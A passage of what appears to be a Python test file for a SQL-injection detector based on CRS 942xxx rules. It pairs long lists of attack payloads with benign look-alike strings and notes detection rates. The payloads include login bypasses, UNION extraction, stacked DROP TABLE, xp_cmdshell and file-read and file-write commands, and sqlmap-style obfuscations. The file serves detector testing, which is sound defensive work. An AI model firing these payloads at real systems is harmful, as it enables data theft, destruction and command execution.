    ("942500", "q", "1 union#x\nselect 1,2"),
    ("942500", "q", "1 -- x\nunion select 1"),
    ("942500", "q", "1 union(select(1),(2))"),
    ("942500", "q", "1 union distinctrow select 1"),
    ("942500", "qraw", "-1+uNiOn+aLl+sElEcT+1,2"),
    ("942500", "q", "1%0Aunion%0Aselect%0A1"),
    # stacked queries
    ("stacked", "q", "1; drop table users"),
    ("stacked", "form", "'; exec sp_configure 'show advanced options',1;reconfigure--"),
    ("stacked", "q", "1;select * from users"),
    ("stacked", "json", "1); truncate table sessions;--"),
    # MSSQL
    ("mssql", "q", "1 and 1=convert(int,@@version)"),
    ("mssql", "q", "' and 1=cast(db_name() as int)--"),
    ("mssql", "form", "';exec('sel'+'ect 1')--"),
    ("mssql", "q", "1 union select null,name from master..sysdatabases--"),
    ("mssql", "q", "' group by users.id having 1=1--"),
    ("mssql", "q", "';exec sp_addsrvrolemember 'eve','sysadmin'--"),
    ("mssql", "q", "1;select * from openrowset('SQLOLEDB','x';'sa';'pw','select 1')"),
    # Oracle
    ("oracle", "q", "' and 1=utl_inaddr.get_host_name((select user from dual))--"),
    ("oracle", "q", "' union select banner,null from v$version--"),
    ("oracle", "q", "' and ctxsys.drithsx.sn(1,(select user from dual))=1--"),
    ("oracle", "q", "1 and rownum=1"),
    ("oracle", "form", "' || (select dbms_xmlgen.getxml('select user from dual') from dual) || '"),
    # SQLite
    ("sqlite", "q", "' union select sql from sqlite_master--"),
    ("sqlite", "q", "' and (select count(*) from pragma_table_info('users'))>0--"),
    ("sqlite", "form", "'; attach database '/var/www/x.php' as p; create table p.t (d text);--"),
    ("sqlite", "q", "1 and typeof(1)='integer'"),
    ("sqlite", "q", "' union select group_concat(tbl_name) from sqlite_schema--"),
    # PostgreSQL
    ("pgsql", "q", "' and 1=cast((select version()) as int)--"),
    ("pgsql", "q", "1;select $$a$$"),
    ("pgsql", "q", "' union select string_agg(usename,',') from pg_user--"),
    ("pgsql", "q", "' and current_setting('is_superuser')='on'--"),
    ("pgsql", "q", "';select lo_import('/etc/passwd')--"),
    ("pgsql", "form", "1 and 1=(select count(*) from pg_stat_activity)"),
    # MySQL
    ("mysql", "q", "1 into outfile '/var/www/s.php'"),
    ("mysql", "q", "' union select 1,@@datadir-- -"),
    ("mysql", "q", "1 and ord(mid(user(),1,1))>64"),
    ("mysql", "q", "'+sleep(5)+'"),
    ("mysql", "q", "' and extractvalue(1,concat(0x7e,(select @@version)))--"),
    ("mysql", "q", "1 and (select 1 from mysql.user limit 1)=1"),
]
ROUND3_BENIGN: list[tuple[str, str]] = [
    ("q", "json_typeof function postgres"), ("q", "datediff in excel"), ("form", "What does weekday() return in Excel?"),
    ("q", "inet_aton"), ("form", "Converting IPs with inet_aton and inet_ntoa"), ("q", "uuid short"),
    ("q", "row to json"), ("form", "I'd like to dump my old collation of vinyl"), ("q", "collation of wines"),
    ("form", "The quote (see above) is from O'Brien"), ("form", "Quote: 'Always be closing'"), ("q", "hex to raw converter"),
    ("q", "log10 of 100"), ("q", "log2(8)"), ("form", "=DATEDIFF(A2,B2,\"d\")"), ("form", "=WEEKDAY(A1)"),
    ("q", "microsecond timer"), ("q", "monthname"), ("form", "Starts with 'A' and ends with 'Z'"),
    ("q", "ends_with"), ("form", "startswith('http') in python"), ("q", "str.startswith(\"a\")"),
    ("json", "{\"role\": \"admin\", \"active\": true}"), ("form", "data->>'name' operator in postgres docs"),
    ("q", "a -> b"), ("form", "Cost: $5 -> $4"), ("q", "arrow => fn"),
    ("form", "Hi Bob; see you at 5"), ("form", "O'Neil; Smith; Brown"), ("form", "It's fine;"),
    ("form", "Don't; please"), ("q", "the \"best\"; the worst"),
    ("form", "Please alter my order: add a table lamp"), ("form", "We'll create a user account for you"),
    ("form", "Grant all staff access to the wiki"), ("form", "rename the table tab"), ("form", "update my profile picture"),
    ("form", "Declare your items at customs"), ("form", "We open at 9; close at 5"),
    ("form", "Cheers from 127.0.0.1 dev box"), ("xff", "203.0.113.7, 198.51.100.2"),
    ("ua", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"),
    ("referer", "https://www.google.com/search?q=sleep+5+hours+a+night"), ("q", "copy to clipboard"),
    ("form", "copy (a) to program folder"), ("q", "program copy paste"), ("form", "\\\\fileserver\\share\\docs"),
    ("q", "sleep 5 hours"), ("form", "Can't sleep (5 nights now)"), ("q", "like upper hex"), ("q", "randomblob"),
    ("form", "$$ money $$"), ("form", "Price $$5"), ("q", "perform do begin end"),
    ("q", "0x1F600"), ("q", "color 0xff00ff"), ("form", "char(10) is a newline"), 
    ("form", "She wrote x'61' on the board"), ("q", "E'cole"), ("q", "1/2 cup"),
    ("form", "/* TODO */ fix this"), ("q", "union square select hotel"), ("form", "UNION JACK select colours"),
    ("q", "1\nunion street\nselect apartments"), ("form", "trade union select committee"),
    ("form", "1; then drop the table leaf"), ("form", "truncate table text in word"), ("q", "create table in excel"), ("form", "drop table and chairs"), ("form", "create database for my shop"),
    ("q", "convert int to string"), ("form", "cast iron pan, db name: shop"), ("q", "group by having sql tutorial"),
    ("form", "Master bedroom..sys"), ("q", "v$version oracle meaning"), ("q", "rownum"),
    ("form", "sqlite master class"), ("q", "pragma table info"), ("form", "attach database file to email"),
    ("q", "typeof null javascript"), ("q", "version cast"), ("form", "Current setting: 'is_superuser' off"),
    ("q", "pg stat activity"), ("q", "ord mid user"),
    ("form", "Team+sleep+5"), ("q", "extract value"), 
    ("q", "https://shop.example/p?id=5&sort=price"), ("form", "Tom & Jerry's \"Best\" (2024)"),
    ("form", "SKU: AB-12'3"), ("q", "5' 9\" tall"),
    ("form", "1) and 2) are required"), ("q", "C# or F#"),
    ("q", "hello;world"), ("form", "Rock 'n' roll; jazz"),
]

# Round 3, second batch (sqlmap tampers, error-based extraction, ORDER BY / LIMIT / INSERT contexts, rarer carriers),
# written after the first batch's fixes: 47 of 48 caught and 1 of 40 benign flagged on first pass (`1 into @a,@b`
# missed; `min(1, 2) = 1 in math` flagged); 48 of 48 and 0 after.
ROUND3B_ATTACKS: list[tuple[str, str, str]] = [
    # sqlmap tampers CRS 4's obfuscation rules (942500/942200/942440) aim at
    ("tamper", "q", "1 and mid(version() from 1 for 1)='5'"),
    ("tamper", "q", "1 union select 1 limit 1 offset 0"),
    ("tamper", "qraw", "%EF%BC%87 or 1=1-- -"),
    ("tamper", "qraw", "1 and 1=1%00"),
    ("tamper", "q", "-.1union select 1,2"),
    ("tamper", "q", "1 and greatest(ascii(mid(user(),1,1)),64)=64"),
    ("tamper", "q", "1 and least(ascii(mid(user(),1,1)),64)=64"),
    ("tamper", "q", "' and {fn concat('a','b')}='ab'--"),
    ("tamper", "form", "' and get_lock('x',5)--"),
    ("tamper", "q", "1 and 2>1-- sp_password"),
    ("tamper", "q", "1 union select 1 from information_schema/**/.tables"),
    ("tamper", "q", "1 and case when 1=1 then sleep(5) else 0 end"),
    ("tamper", "qraw", "1%09union%0bselect%0c1"),
    ("tamper", "q", "1 and 2 not between 0 and 1"),
    ("tamper", "q", "1 and user() like 'root%'"),
    ("tamper", "q", "1 and user() rlike '^root'"),
    ("tamper", "qraw", "1/*!30874and 2>1*/"),
    ("tamper", "qraw", "1 union%23abc%0aselect 1"),
    ("tamper", "qraw", "1--nVNaVoPYeva%0aunion--x%0aselect 1"),
    ("tamper", "q", "2.0union select 1,2"),
    ("tamper", "q", "1 && 1"),
    ("tamper", "q", "1 || 2=2"),
    # error-based extraction
    ("error", "q", "1 and (select 1 from(select count(*),concat((select user()),floor(rand(0)*2))x from information_schema.tables group by x)a)"),
    ("error", "cookie", "' and exp(~(select * from (select user())a))--"),
    ("error", "q", "' and polygon((select*from(select*from(select user())a)b))--"),
    ("error", "form", "' and json_keys((select convert((select user()) using utf8)))--"),
    ("error", "q", "' and gtid_subset(user(),1)--"),
    ("error", "q", "1 and updatexml(null,concat(0x0a,version()),null)"),
    ("error", "q", "' and 1=convert(int,(select top 1 table_name from information_schema.tables))--"),
    ("error", "json", "1 and 1=ctxsys.drithsx.sn(1,(select banner from v$version where rownum=1))"),
    # ORDER BY / LIMIT / INSERT contexts
    ("context", "q", "(case when (1=1) then id else price end)"),
    ("context", "q", "if(2>1,name,email)"),
    ("context", "q", "name,(select sleep(3))"),
    ("context", "q", "1,extractvalue(1,concat(0x7e,user()))"),
    ("context", "form", "x',(select password from users limit 1))-- -"),
    ("context", "q", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("context", "q", "1 into @a,@b"),
    ("context", "q", "name asc, (select 1 from dual where 1=1)"),
    # carriers: Accept-Language, base64 cookie, GraphQL, filename, XML, multipart, double encoding, entities
    ("carrier", "acceptlang", "en-GB' and (select 1 from pg_sleep(4))--"),
    ("carrier", "b64cookie", "7 union all select null,version()-- -"),
    ("carrier", "gql", "x' or 2>1-- -"),
    ("carrier", "filename", "a'+(select sleep(5))+'.jpg"),
    ("carrier", "xml", "7' and extractvalue(1,concat(0x7e,database()))-- -"),
    ("carrier", "multipart", "t' union select username,password from admins-- -"),
    ("carrier", "q2", "1' and ascii(substr(user(),1,1))>96-- -"),
    ("carrier", "html", "' or name = 'admin' -- "),
    ("carrier", "referer", "3 and 1=(select count(*) from all_users)"),
    ("carrier", "formkey", "0) or 1=1 union select 1 -- "),
]
ROUND3B_BENIGN: list[tuple[str, str]] = [
    ("q", "mid-century sofa from 1950 for sale"), ("q", "limit 1 per customer"), ("form", "Greatest hits (2024 remaster)"),
    ("q", "least squares (ols) regression"), ("form", "In case the parcel is late, then notify me"),
    ("q", "rand() in excel"), ("form", "fn + F5 on a laptop"), ("q", "get lock screen"), ("form", "sp password reset"),
    ("q", "information schema"), ("form", "Use Ctrl+F; then type the word"), ("q", "between 2 and 5 days"),
    ("q", "like new, boxed"), ("form", "1 and 2 bedroom flats"), ("q", "user like me"), ("form", "1 || 2 players"),
    ("q", "offset printing"), ("form", "Exp. date 10/26"), ("q", "polygon count 3d model"), ("q", "json keys order"),
    ("form", "Convert int to varchar in report"), ("q", "Order by price, then name"), ("q", "price high to low desc"),
    ("q", "title asc"), ("form", "If 1=1 in logic class, what is it called?"), ("acceptlang", "en-GB,en;q=0.9,fr;q=0.8"),
    ("filename", "Résumé O'Brien (final).pdf"), ("filename", "photo_2024-05-01 (1).jpg"), ("gql", "O'Reilly Media"),
    ("xml", "Smith & Sons 'Ltd'"), ("multipart", "Q3 report: sales up 5% (vs. Q2)"), ("referer", "https://news.example/?p=3&and=1"),
    ("form", "Note: 'x' and 'y' are variables"), ("form", "She said 'hi' -- then left"), ("q", "1.0 union of sets"),
    ("form", "A ∪ B select all that apply"), ("q", "case 1=1 closed"), ("form", "min(1, 2) = 1 in math"),
    ("q", "sleep number bed"), ("form", "version 2.0 (beta) and 3.1"),
]

# Round 3, third batch (942180/942260/942340/942520 login bypasses, 942190 MSSQL, 942240 charset switch, 942350 UDF,
# more per-DBMS probes): first pass 54 of 56 caught (missed PostgreSQL `similar to`, MySQL `(@x:=1)=1`), 2 of 34
# benign flagged (`It's true or false`, `@@mentions in slack`); 56 of 56 and 0 after.
ROUND3C_ATTACKS: list[tuple[str, str, str]] = [
    # 942180/942260/942340/942520/942540 authentication bypass in a login form
    ("auth", "form", "admin' #"), ("auth", "form", "admin')-- -"), ("auth", "form", "admin' or '1'='1'/*"),
    ("auth", "form", "') or true--"), ("auth", "form", "' or true#"), ("auth", "json", "\" or true--"),
    ("auth", "form", "x'or''='"), ("auth", "form", "'=''or'"), ("auth", "form", "' or 1 --"),
    ("auth", "form", "1' or '1'='1' limit 1 -- "), ("auth", "form", "' or username like '%"),
    ("auth", "form", "admin' and password like '%'--"), ("auth", "form", "' or 0=0 #"), ("auth", "form", "')) or (('b'='b"),
    ("auth", "form", "' || '1'='1"), ("auth", "form", "admin'/*"), ("auth", "form", "' or 1 in (1)--"),
    ("auth", "form", "' or 'a' between 'a' and 'b'--"), ("auth", "form", "' or true is true--"), ("auth", "form", "' or not false--"),
    # 942190 MSSQL code execution and information gathering
    ("mssql", "q", "' union select @@servername--"), ("mssql", "q", "' and 1=(select is_srvrolemember('sysadmin'))--"),
    ("mssql", "q", "'; exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet','x'--"),
    ("mssql", "q", "' union select name from sys.databases--"), ("mssql", "cookie", "' and host_name()='web01'--"),
    ("mssql", "q", "1 union select loginame from master..sysprocesses"), ("mssql", "q", "';exec master.dbo.xp_cmdshell 'whoami'--"),
    ("mssql", "form", "'; exec('xp_cmdshell ''whoami''')--"),
    # 942240 charset switch
    ("942240", "q", "'; set names gbk--"), ("942240", "q", "' collate latin1_general_cs_as--"),
    ("942240", "q", "1 and 1=convert(user() using latin1)"),
    # 942350 UDF and file writes
    ("942350", "form", "'; create function do_system returns integer soname 'raptor_udf2.so'--"),
    ("942350", "q", "' union select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/u.so'--"),
    ("942350", "q", "'; select sys_exec('id')--"),
    # Oracle
    ("oracle", "q", "' and (select count(*) from all_users)>1--"), ("oracle", "q", "x'||(select user from dual)||'"),
    ("oracle", "q", "' and 1=(select 1 from dual where exists(select * from user_tables))--"),
    ("oracle", "form", "' || dbms_java.runjava('oracle/aurora/util/Wrapper id') || '"),
    # SQLite
    ("sqlite", "q", "'||sqlite_version()||'"), ("sqlite", "q", "' union select name from pragma_database_list--"),
    # PostgreSQL
    ("pgsql", "q", "';select pg_read_file('/etc/passwd',0,200)--"), ("pgsql", "q", "'||pg_sleep(5)--"),
    ("pgsql", "q", "' and 1=(select 1 from pg_user where usesuper)--"), ("pgsql", "q", "' and version() ~ 'PostgreSQL'--"),
    ("pgsql", "q", "' and current_user ~* '^post'--"), ("pgsql", "q", "1 and 'a' similar to 'a'"),
    ("pgsql", "form", "'; create or replace function f() returns void as $$ select 1 $$ language sql--"),
    ("pgsql", "q", "' and (select setting from pg_settings where name='data_directory') like '/%'--"),
    # MySQL
    ("mysql", "q", "' and (select substr(table_name,1,1) from information_schema.tables limit 1)='a'--"),
    ("mysql", "q", "' and @@version_comment like '%'--"), ("mysql", "q", "' and 'a' sounds like 'a'--"),
    ("mysql", "q", "1 and 1 <=> 1"), ("mysql", "q", "1 and not 1<>1"), ("mysql", "q", "1 and (@x:=1)=1"),
    ("mysql", "q", "'; handler users open; handler users read first--"), ("mysql", "q", "'/*!50000union*/ select 1-- -"),
]
ROUND3C_BENIGN: list[tuple[str, str]] = [
    ("form", "Admin -- read first"), ("form", "O'Hara or O'Neil"), ("form", "It's true or false"), ("form", "Tom's 'x' factor"),
    ("form", "It's 'hello' -- a greeting"), ("form", "'Twas the night before"), ("form", "@@mentions in slack"),
    ("q", "name ~ regex"), ("form", "Set names for the team"), ("q", "collate pages when printing"),
    ("form", "sounds like a plan"), ("q", "similar to this item"), ("q", "dual sim phone"), ("form", "true is true in logic"),
    ("q", "handler users forum"), ("q", "pg 5 of 12"), ("q", "1 <=> 1 spaceship operator in php"), ("q", "0-0 draw"),
    ("form", "I'm in (1) place"), ("form", "Ain't it true?"), ("form", "Rock 'n' roll or jazz"), ("form", "user's guide (PDF)"),
    ("form", "Sales' report || draft"), ("q", "version ~ 2.1"), ("form", "Don't panic -- it's fine"), ("form", "Who's there? -- me"),
    ("form", "He's 6'1\" or so"), ("q", "'s-Hertogenbosch"), ("form", "rock'n'roll"), ("form", "Ctrl + ' to toggle"),
    ("form", "see 'Sleep' (Max Richter)"), ("q", "dbo.Orders table"), ("form", "y'all're awesome"), ("form", "'1' stands for yes"),
]

# Round 3, fourth batch (SQL in a REST path segment, 942210 chained statements, 942370 concatenation probes): first
# pass 18 of 20 caught, 0 of 16 benign flagged; the two misses are not asserted: `1 div 1=1` (an arithmetic truth
# with no SQL around it reads like `1*1=1`) and `x' 'y` (adjacent-literal concatenation: prose writes `x' 'y` too).
ROUND3D_ATTACKS: list[tuple[str, str, str]] = [
    # SQL in the URL path (942101: request file name), as REST routes pass an id segment into a query
    ("path", "path", "1 union select 1,version()-- -"), ("path", "path", "7' or 'a'='a"), ("path", "path", "1;select pg_sleep(5)--"),
    ("path", "path", "12 and sleep(5)"), ("path", "path", "1/**/union/**/select/**/1,2"), ("path", "path", "-1 or 2>1"),
    ("path", "path", "1) and extractvalue(1,concat(0x7e,user()))-- -"),
    # chained statements after a line comment and a newline, variables set from subqueries (942210)
    ("942210", "q", "1;-- x\ndrop table users"), ("942210", "q", "1#\nupdate users set admin=1"),
    ("942210", "form", "1; declare @t varchar(99) set @t=(select top 1 name from sysobjects)--"),
    ("942210", "q", "1/**/and/**/2>1"), ("942210", "q", "1 and 3 between 1 and 5"),
    ("942210", "q", "1;set @a=0x41;--"),
    # string concatenation probes (942370, 942430): the value is rebuilt from pieces
    ("942370", "q", "ad'||'min"), ("942370", "q", "ad'+'min"), ("942370", "form", "a'||chr(109)||'in"),
    ("942370", "q", "1'*1*'1"), ("942370", "q", "abc'^0^'"),
]
ROUND3D_BENIGN: list[tuple[str, str]] = [
    ("path", "about-us"), ("path", "2024-summer-sale"), ("path", "O'Reilly-books"), ("path", "sleep-better-guide"),
    ("path", "select-your-size"), ("path", "union-jack-mug"), ("path", "1 and 2 bedroom flats"),
    ("q", "1 and 3 bedroom"), ("q", "ad + min"), ("form", "It's 'good'||'bad'"), ("form", "Rock 'n' roll 'n' blues"),
    ("form", "x' y' z'"), ("form", "f'(x) = 2x"), ("form", "f''(x) and g'(x)"), ("q", "1*1=1"), ("form", "3 div 2 in python is //"),
]

# Round 3, fifth batch: this round's new rules (function vocabulary, COPY, INTO @var, `:=`, SIMILAR TO, DDL shape)
# through encodings and carriers, beside near-misses of the same rules. Written after the fixes: 13 of 13 caught;
# 2 of 18 benign flagged by sqli (`Use log10(x) and log2(x) for scale`, `alter table height by 2 cm`), 0 after.
ROUND3E_ATTACKS: list[tuple[str, str, str]] = [
    # the round's new rules through encodings and carriers
    ("942151", "jsonu", "1 and json_length(json_array(1,2))=2"),
    ("942151", "html", "' and timediff(now(),sysdate())=0-- -"),
    ("942151", "b64", "1 or to_json(current_user)::text like '%a%'"),
    ("942151", "q2", "' and inet6_ntoa(inet6_aton('::1'))='::1'-- -"),
    ("942151", "xmlraw", "1 and last_day(now())>0"),
    ("942151", "gql", "x' and uncompressed_length(compress(user()))>0-- -"),
    ("copy", "form", "1; copy (select current_user) to '/tmp/who.txt'--"),
    ("copy", "q2", "5;copy t from program 'id'--"),
    ("into", "q", "(select 1) into @x"),
    ("assign", "cookie", "1 and (@v:=version()) like '8%'"),
    ("similar", "hdr", "2 or user similar to 'adm%'"),
    ("ddl", "html", "1; create table pwn (x text)--"),
    ("ddl", "json", "'; drop table if exists audit_log;--"),
]
ROUND3E_BENIGN: list[tuple[str, str]] = [
    ("q", "row_to_json(t)"), ("form", "jsonb_set(data, '{a}', '1')"),
    ("q", "datediff(day, start, end)"), ("q", "timediff"), ("form", "to_json(obj) in ruby"), ("q", "inet_aton(ip)"),
    ("form", "Use log10(x) and log2(x) for scale"), ("q", "weekday(date) excel"), ("form", "dump(obj) in python"),
    ("form", "create table from selection in excel"), ("q", "drop table on floor"), ("form", "alter table height by 2 cm"),
    ("form", "x := x + 1 in pascal"), ("form", "@alice:=@bob"), ("q", "similar to iphone"), ("form", "copy to 'Documents' folder"),
    ("form", "Please copy (the attached) to 'finance'"), ("form", "true or false: the sky is blue"),
]

# Round 3, sixth batch: escaped quotes (942522), bracketed operands without blanks, exotic blanks and quote
# encodings (raw 0xA0 / 0x0B / NUL, overlong and GBK-eaten quotes, U+02BC), MSSQL's `!<`/`!>`. First pass 12 of 14
# (the raw 0xA0 blank of sqlmap's space2mysqlblank was read as part of a word; `1 or 3 !< 2`: `!<` was no
# comparison), 0 of 11 benign flagged; 14 of 14 and 0 after.
ROUND3F_ATTACKS: list[tuple[str, str, str]] = [
    # 942522/942521 escaped quotes, bracketed operands without blanks, exotic blanks and quote encodings
    ("942522", "form", "admin\\' or 1=1#"), ("942522", "json", "\\\" or \\\"\\\"=\\\""), ("942200", "q", "1'and(1)=(1)#"),
    ("942200", "q", "'or(1)=(1)--"), ("942200", "q", "'||(1)=(1)||'"), ("942200", "q", "'and(select(1))='1"),
    ("blank", "qraw", "1'%0band%0b1=1-- -"), ("blank", "qraw", "1'%a0or%a01=1-- -"), ("blank", "qraw", "'%00' or 1=1--"),
    ("quote", "qraw", "%c0%a7 or 1=1-- -"), ("quote", "qraw", "%bf%27 or 1=1-- -"), ("quote", "q", "x\u02bc or 2>1-- -"),
    # 942131: MSSQL's not-less / not-greater operators in a tautology
    ("942131", "q", "1 or 3 !< 2"), ("942131", "cookie", "' or 2 !> 3--"),
]
ROUND3F_BENIGN: list[tuple[str, str]] = [
    ("json", "It\\'s fine"), ("form", "C:\\Users\\O'Brien\\docs"), ("form", "a\\\"b"), ("form", "Rock\\'n\\'roll"),
    ("q", "don\u02bct stop"), ("form", "5\u02bc10\u02ba tall"), ("qraw", "Prix%a0:%a05%a0EUR"), ("qraw", "l%92or%a0et%a0l%92argent"),
    ("qraw", "Caf%e9%a0O%92Brien%a0or%a0Dunne"), ("form", "Great!> see you"), ("form", "wow!< 3 left"),
]

# --- Round 4 (late benign batch): calls of the functions maths, spreadsheets and SQL share. A condition or a
# formula of them is an injection only in SQL's shape: after a value of the query (a number, a closing quote or
# bracket) or around SQL; two maths calls joined by `and`, or `=` and one spreadsheet call over literals, are not.
ROUND4_ATTACKS: list[tuple[str, str, str]] = [
    # a maths function in a boolean probe after the application's value
    ("math", "q", "1 and max(1,2)=2"), ("math", "q", "1 or min(1,2)=1"), ("math", "q", "' or min(1,2)=1--"),
    ("math", "form", "1 AND ABS(-1)=1"), ("math", "json", "1 and round(1.4)=1"), ("math", "q", "1) and max(1,2)=2 and (1=1"),
    ("math", "cookie", "x' and sqrt(4)=2-- -"), ("math", "q", "1 and pow(2,3)=8"), ("math", "q+", "1 and greatest(1,2)=2"),
    ("math", "q", "-1 or floor(1.5)=1#"), ("math", "qraw", "1%20and%20ceil(0.5)=1"), ("math", "hdr", "1 and max(1,2)=2 and min(1,2)=1"),
    ("math", "q", "1 or abs(1)"), ("math", "form", "' and min(1,2)=1 and 'a'='a"), ("math", "json", "\" or max(0,1)=1 -- "),
    ("math", "q", "max(1,2)=2 and sleep(5)"), ("math", "q", "abs(1)=1 and (select 1 from dual)=1"), ("math", "q", "1 and mod(10,3)=1"),
    ("math", "q2", "2 and max(1,2)=2"), ("math", "xml", "1 and min(3,7)=3"), ("math", "q", "max(1,2)=2 and min(1,2)=1-- -"),
    ("math", "q", "1 and max(id)>0"), ("math", "ua", "' or round(0.4)=0 or '"),
    # spreadsheet-shaped values that carry SQL
    ("sheet", "form", "=date(2024,6,1) or 1=1"), ("sheet", "form", "=DATE(2024,6,1)+(SELECT 1)"),
    ("sheet", "q", "=year(now()) and sleep(5)"), ("sheet", "q", "=concat(user(),0x3a)"), ("sheet", "q", "=mid(@@version,1,1)"),
    ("sheet", "form", "=ascii(substring((select user()),1,1))>64"), ("sheet", "q", "=len(database())>1"),
    ("sheet", "q", "=text(version(),0)"), ("sheet", "q", "1=date(2024,1,1) union select 1,2--"),
    ("sheet", "q", "=date(2024,6,1);drop table users--"), ("sheet", "q", "=sleep(5)"), ("sheet", "q", "=if(1=1,sleep(5),0)"),
    ("sheet", "form", "=date(2024,6,1)+30 and 1=1"), ("sheet", "q", "=day(2024)-- -"), ("sheet", "q", "=round(1,1) union select null--"),
    ("math", "cookie", "1 and least(2,3)=2"), ("sheet", "json", "=concat('a',(select password from users limit 1))"),
    ("math", "q", "0 or sign(1)=1-- -"),
]
ROUND4_BENIGN: list[tuple[str, str]] = [
    # maths homework and answers
    ("form", "Quiz: work out max(4,9) and min(-1,6), then show your steps."), ("json", "max(2,8) = 8 and min(2,8) = 2"),
    ("form", "abs(-4) = 4 and abs(4) = 4"), ("form", "pow(2,10) = 1024 and pow(2,20) = 1048576"),
    ("q", "floor(2.5) and ceil(2.5) difference"), ("form", "round(2.5) and round(3.5) both give even numbers in python"),
    ("form", "Is max(1,2) or min(1,2) larger?"), ("json", "min(3,7) = 3, max(3,7) = 7 and abs(-7) = 7"),
    ("form", "Homework: compare floor(7.9) and ceil(7.1)"), ("q", "sqrt(2) and sqrt(3) to 3 decimals"),
    ("form", "max(0.5, 0.25) and min(0.5, 0.25)"), ("json", "round(2.675, 2) = 2.68 or round(2.675, 2) = 2.67?"),
    # spreadsheet formulas over literals (no cell)
    ("form", "=DATE(2024,12,31)-DATE(2024,1,1)"), ("form", '=YEAR("2024-06-01")'), ("form", '=TEXT(45450,"dd/mm/yyyy")'),
    ("form", "=ROUND(1234.567,2)"), ("form", "=POWER(2,10)"), ("form", "=SQRT(144)*2"), ("form", '=CONCAT("Q","2")'),
    ("form", '=UPPER("invoice")'), ("form", "=MOD(17,5)"), ("json", "=DATE(2025,1,15)+14"), ("json", "=ROUND(SQRT(2),3)"),
    ("form", '=HOUR("14:30")*60'), ("form", '=MONTH("2024-06-30")'), ("form", "= DATE(2024, 6, 1) + 30"), ("form", "=INT(7.9)"),
    ("json", "=DAY(45450)"), ("form", "=FLOOR(7.5,2)/2"), ("form", "=PRODUCT(2,3,4)"),
    ("form", "Find the value of abs(-3) and sqrt(9)."),
]
# First pass on the code before this round's fix: 41 / 41 attacks caught, 23 / 31 benign values flagged; after: 41 / 41, 0 / 31.
# Left flagged on purpose: a maths call that starts a sentence and goes on with `or` and a bare number
# (`round(2.675, 2) = 2.67 or 2.68 because …`, sqli:function 0.6), the shape of `abs(1)=1 or 1`.


# --- Round 5 (blind benign batch): values in languages of their own that only look like SQL. A call, a quoted phrase
# or a whole statement is no injection where the SQL reading cannot parse (a PromQL selector, a KQL `| where`, LaTeX's
# `\left(`, a template tag `{{x}}`, a final `;` no subquery slot takes) or is the formula's own (`=QUERY(…)`); the
# shapes those rules exist for stay caught, and a spreadsheet formula's strings are now read for breakouts (before
# this round any formula-shaped value skipped the detector: `=LEN(" or 1=1 -- ")`).
ROUND5_ATTACKS: list[tuple[str, str, str]] = [
    # a statement after a breakout quote (the shape quote_statement and ddl exist for)
    ("stmt", "q", 'x" DROP TABLE users--'), ("stmt", "q", "x' drop table users #"), ("stmt", "q", "abc' select password from users--"),
    ("stmt", "q", "1' exec master..xp_cmdshell 'ping 127.0.0.1'--"), ("stmt", "q", 'x" truncate table logs-- -'),
    ("stmt", "form", "x' ALTER TABLE users DROP COLUMN pw--"), ("stmt", "q", 'x" ; DROP TABLE users; "'),
    ("stmt", "q", "x' exec xp_cmdshell 'whoami"),
    # operators between quotes: `'-'` probes
    ("op", "q", "x'-'"), ("op", "q", "1'*'1"), ("op", "form", "admin'-'"), ("op", "q", 'x"/"y'), ("op", "q", "x' / 'y' -- "),
    ("op", "q", "x'|'a' or 'a'='a"),
    # bare calls of SQL functions (ORDER BY / column probes) and calls near pipes, braces, backslashes
    ("call", "q", "if(length(user())>1,id,price)"), ("call", "q", "count(*) -- | where x"), ("call", "q", "if(1=1,name,email)#{x}"),
    ("call", "q", "1 and left(user(),1)='r'"), ("call", "q", "-log(1) or 1=1"), ("call", "q", "1 or log(1)=0-- -"),
    ("call", "q", "if(ascii(mid(user(),1,1))>64,1,0)"), ("call", "q", "\\' or 1=1-- "), ("call", "q", "price,if(1=1,id,name)"),
    # spreadsheet-shaped values whose strings carry a breakout
    ("sheet", "form", '=len(" or 1=1 -- ")'), ("sheet", "form", "=countif(b:b,\"x' or 1=1-- \")"),
    ("sheet", "json", '=SUM(A1:A3," union select password from users-- ")'), ("sheet", "form", "=QUERY(A1:C, \"x' union select 1,2-- \")"),
    ("sheet", "form", "=ARRAYFORMULA(\"x' and sleep(5)-- \")"), ("sheet", "json", "=IF(A1=\"x' or '1'='1\",1,0)"),
    ("sheet", "form", '=LET(a, 1, "x" or 1=1-- ")'), ("sheet", "q", "=FILTER(A1:A9, \"x' or 1=1#\")"),
    # whole statements an application could splice in raw (a subquery slot) or that carry their own payload
    ("stmt", "q", "SELECT username, password FROM users"), ("stmt", "q", "select password from users where id=1"),
    ("stmt", "q", "SELECT username, password FROM users;-- "), ("stmt", "q", "(SELECT username, password FROM users)"),
    ("stmt", "q", "1; SELECT pg_sleep(5);"), ("stmt", "q", "SELECT load_file('/etc/passwd');"),
    ("stmt", "q", "SELECT table_name FROM information_schema.tables;"), ("stmt", "q", "x' union select id, name from users where email = ?--"),
    ("stmt", "q", "SELECT 1; DROP TABLE users;"), ("stmt", "form", "a(' select password from users--"),
    ("stmt", "q", "SELECT username, password FROM users WHERE 1=1 UNION SELECT 1,2;"), ("call", "q", "if(1=1,id,price);{{x}}"),
]
ROUND5_BENIGN: list[tuple[str, str]] = [
    # code search with a quoted SQL phrase
    ("q", 'org:acme language:sql "DROP INDEX"'), ("q", 'repo:shop/api "TRUNCATE TABLE"'), ("q", 'path:db/migrate "DELETE FROM sessions"'),
    ("q", 'lang:ruby "CREATE INDEX CONCURRENTLY"'), ("q", 'repo:acme/billing "DROP TABLE IF EXISTS"'), ("q", 'repo:payments/api "ALTER TABLE orders"'),
    ("q", 'changelog "RENAME COLUMN"'),
    # PromQL selectors with several matchers
    ("q", 'rate(http_requests_total{route="/",method="GET"}[5m])'), ("q", 'node_filesystem_free_bytes{mountpoint="/",device!="tmpfs"}'),
    ("q", 'sum(rate(nginx_http_requests_total{path="/",code=~"5.."}[1m]))'), ("q", 'probe_success{instance="/",job="blackbox"} == 0'),
    ("q", 'http_server_requests_seconds_count{uri="/",status="500"} > 10'),
    # spreadsheets
